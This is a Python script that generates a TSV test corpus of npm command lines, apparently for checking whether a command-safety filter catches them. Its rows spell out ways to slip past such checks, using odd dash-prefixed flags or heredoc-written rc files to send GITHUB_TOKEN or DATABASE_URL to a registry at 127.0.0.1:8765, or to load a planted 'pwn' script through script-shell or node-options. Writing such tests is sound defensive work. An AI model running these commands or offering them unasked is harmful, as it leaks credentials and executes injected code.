PK = 'printf "%s" "{\\"name\\":\\"p\\",\\"version\\":\\"1.0.0\\",\\"scripts\\":{\\"test\\":\\"echo ok\\"}}" > package.json && printf "//registry.npmjs.org/:_authToken=\\${GITHUB_TOKEN}\\n" > @H@/.npmrc'
rows = []
def r(cls, setup, line):
    rows.append(cls + "\t" + (("setup:" + setup + " ;;; ") if setup else "") + line)
r("npm-userconfig-cat", PK + "; mkdir claude", "go:'cat > claude/rc <<\\'EOF\\'\\nregistry=http://127.0.0.1:8765/\\n//127.0.0.1:8765/:_authToken=${GITHUB_TOKEN}\\nEOF\\nnpm test ---userconfig=claude/rc'")
r("npm-userconfig-cat", PK + "; mkdir claude", "go:'cat > claude/rc <<\\'EOF\\'\\nregistry=http://127.0.0.1:8765/\\n//127.0.0.1:8765/:_authToken=${GITHUB_TOKEN}\\nEOF\\nnpm test -userconfig claude/rc'")
r("npm-userconfig-cat", PK + "; mkdir claude", "go:'cat > claude/rc <<\\'EOF\\'\\nscript-shell=@P@/pwn\\nEOF\\nnpm test ---userconfig=claude/rc'")
r("npm-dash-token", PK, "npm test -registry=http://127.0.0.1:8765/ '-//127.0.0.1:8765/:_authToken=${GITHUB_TOKEN}'")
r("npm-dash-token", PK, "npm test ---registry=http://127.0.0.1:8765/ ---//127.0.0.1:8765/:_authToken=\\${DATABASE_URL}")
r("npm-dash-other", PK, "npm test ---globalconfig=@P@/claude/x -registry=http://127.0.0.1:8765/")
r("npm-dash-other", PK, "npm test -ca= -strict-ssl=false -https-proxy=http://127.0.0.1:8765/")
r("npm-dash-other", PK + "; mkdir claude", "go:'cat > claude/rc <<\\'EOF\\'\\nnode-options=--require=@P@/pwn.js\\nEOF\\nnpm test -userconfig=claude/rc'")
r("npm-dash-other", PK + "; printf 'require(\"fs\").writeFileSync(\"@M@/pwned\",\"x\")\\n' > pwn.js", "npm test -node-options=--require=./pwn.js")
r("npm-dash-other", PK, "npm test -prefix=@H@")
open("c_npm3.tsv", "w").write("\n".join(rows) + "\n")
